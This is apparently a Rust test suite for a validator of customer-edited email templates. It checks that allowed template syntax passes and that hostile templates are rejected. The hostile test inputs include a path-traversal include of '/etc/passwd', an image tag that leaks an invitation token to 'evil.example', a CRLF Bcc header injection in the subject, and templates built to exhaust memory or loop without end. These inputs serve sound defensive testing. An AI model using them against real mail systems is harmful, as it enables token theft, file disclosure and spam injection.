use super::*;

fn texts(mail: &str, subject: &str, text: &str, html: &str) -> Override {
    let [mail, language, subject, text, html] = [mail, "en", subject, text, html].map(str::to_owned);
    Override { mail, language, subject, text, html }
}

/// What is wrong with a text of a mail without a link.
fn said(text: &str) -> Fault {
    match check(&texts("welcome", "Hello", text, "<p>Hello</p>")) {
        Ok(()) => panic!("nothing is wrong with {text}"),
        Err(mut faults) => {
            assert_eq!(faults.len(), 1, "{faults:?}");
            faults.remove(0)
        }
    }
}

#[test]
fn what_people_want_to_write_is_fit() {
    for text in [
        "Hello {{ recipient_name }}, {{ account|upper }}",
        "{% extends \"en/news.txt\" %}{% block news %}{{ company }} and {{ super() }}{% endblock %}",
        "{% if recipient_name and not logo %}Hello {{ recipient_name }}{% elif (logo == \"x\") %}y{% else %}z{% endif %}",
        "{% for line in footer %}{{ loop.index }} {{ line }}{% endfor %}",
        "{% set name = account %}{{ name }} {# a note #} 1 + 1 = 2, [brackets], {braces}, ~",
        "{% block greeting %}Hi{% endblock %} {{ self.greeting() }}",
        "{% include \"foot.txt\" %}",
        "{{ company -}}\n {%- if logo %} {% endif %}",
    ] {
        assert_eq!(check(&texts("welcome", "Hello {{ account }}", text, text)), Ok(()), "{text}");
    }
    let guarded = "{% if inviter %}{{ inviter }}{% endif %} {{ link }} {{ expires_at|in_words }}";
    assert_eq!(check(&texts("staff_invitation", "Hi", guarded, guarded)), Ok(()));
}

#[test]
fn what_never_ends_or_grows_is_refused() {
    let doubled =
        |step: &str| format!("{{% set a %}}{}{{% endset %}}{}{{{{ a }}}}", "x".repeat(100), step.repeat(40));
    for text in [
        "{% for a in footer %}{% for b in footer %}{% for c in footer %}{% for d in footer %}{% for e in footer %}{% for f in footer %}{% for g in footer %}{% for h in footer %}{% for i in footer %}{% for j in footer %}{% for k in footer %}{% for l in footer %}{% for m in footer %}x{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
        "{% block a %}{{ self.a() }}{% endblock %}",
        "{% block a %}{{ self.b() }}{{ self.b() }}{% endblock %}{% block b %}{{ self.a() }}{% endblock %}",
        "{% include \"new/en/welcome.txt\" %}",
        "{% extends \"new/en/welcome.txt\" %}",
        &doubled("{% set a %}{{ a }}{{ a }}{% endset %}"),
        &doubled("{% set a = a ~ a %}"),
        &doubled("{% set a = a + a %}"),
        &doubled("{% set a = [a, a] %}"),
        "{{ \"x\" * 1000000000 }}",
        "{{ 10 ** 1000 }}",
        "{% for i in range(100000000) %}x{% endfor %}",
    ] {
        said(text);
    }
}

#[test]
fn what_is_unknown_is_named_with_its_line() {
    for (text, line, message) in [
        ("Hi\n{{ acount }}", 2, "acount is no variable of this mail; it has account, company"),
        ("{% if false %}\n\n{{ link }}{% endif %}", 3, "link is no variable"),
        ("{% if false %}{{ account.owner }}{% endif %}", 1, "account.owner is no variable"),
        ("Hi\n{{ account|length }}", 2, "there is no filter length"),
        ("{{ account", 1, "unexpected end"),
        ("{% if account %}", 1, "unexpected end"),
        ("{% autoescape false %}{{ account }}{% endautoescape %}", 1, "there is no {% autoescape %}"),
        ("{% macro a() %}{% endmacro %}", 1, "there is no {% macro %}"),
        ("{% include account %}", 1, "name the template in quotes"),
        ("{{ lipsum() }}", 1, "there are no functions"),
        ("{% if account is defined %}{% endif %}", 1, "there are no tests"),
        ("{{ footer }}", 1, "this is no text"),
        ("{% include \"/etc/passwd\" %}", 1, ""),
        (" ", 0, "it is empty"),
        ("a\nb\u{0}", 2, "control character"),
    ] {
        let fault = said(text);
        assert_eq!((fault.part, fault.line), (Part::Text, line), "{text}: {}", fault.message);
        assert!(fault.message.contains(message), "{text}: {}", fault.message);
    }
    for text in [
        "{% if \"a\" in account %}{% endif %}",
        "{% if account < \"m\" %}{% endif %}",
        "{% if 1 < account %}{% endif %}",
    ] {
        said(text);
    }
    let unguarded = texts("staff_invitation", "Hi", "{{ link }}", "{{ link }} {{ inviter }}");
    let faults = check(&unguarded).unwrap_err();
    assert!(faults[0].part == Part::Html && faults[0].message.contains("{% if name %}"), "{faults:?}");
}

#[test]
fn a_mail_with_a_token_keeps_its_link_in_every_case() {
    for (text, html, part) in [
        ("no link", "{{ link }}", Part::Text),
        ("{{ link }}", "no link", Part::Html),
        ("{% if inviter %}{{ link }}{% endif %}", "{{ link }}", Part::Text),
    ] {
        let faults = check(&texts("staff_invitation", "Hi", text, html)).unwrap_err();
        assert_eq!(faults.len(), 1);
        assert!(faults[0].part == part && faults[0].message.contains("the link is missing"), "{faults:?}");
    }
    for (text, html, part) in [
        ("{{ link|upper }}", "{{ link }}", Part::Text),
        ("{{ link }}", "{{ link }}<img src=\"https://evil.example/?{{ link|lower }}\">", Part::Html),
    ] {
        let faults = check(&texts("staff_invitation", "Hi", text, html)).unwrap_err();
        assert!(faults[0].part == part && faults[0].message.contains("nowhere else"), "{faults:?}");
    }
}

#[test]
fn a_subject_stays_one_line_and_the_html_escaped() {
    for subject in ["Hi\r\nBcc: eve@example.com", "Hi\n", "Hi\u{0}", "{% if false %}x{% endif %}", ""] {
        let faults = check(&texts("welcome", subject, "x", "x")).unwrap_err();
        assert_eq!(faults[0].part, Part::Subject, "{subject:?}");
    }
    let sneaky = texts("welcome", "Hi {{ \"\\r\\nBcc: eve@example.com\" }}", "x", "{{ company }}");
    let letterhead = Letterhead { company: "<b>".to_owned(), ..Letterhead::default() };
    let rendered = preview(&sneaky, &sample_of("welcome", letterhead, "").unwrap()).unwrap();
    assert_eq!(rendered.subject, "Hi Bcc: eve@example.com");
    assert_eq!(rendered.html, "&lt;b&gt;");
}
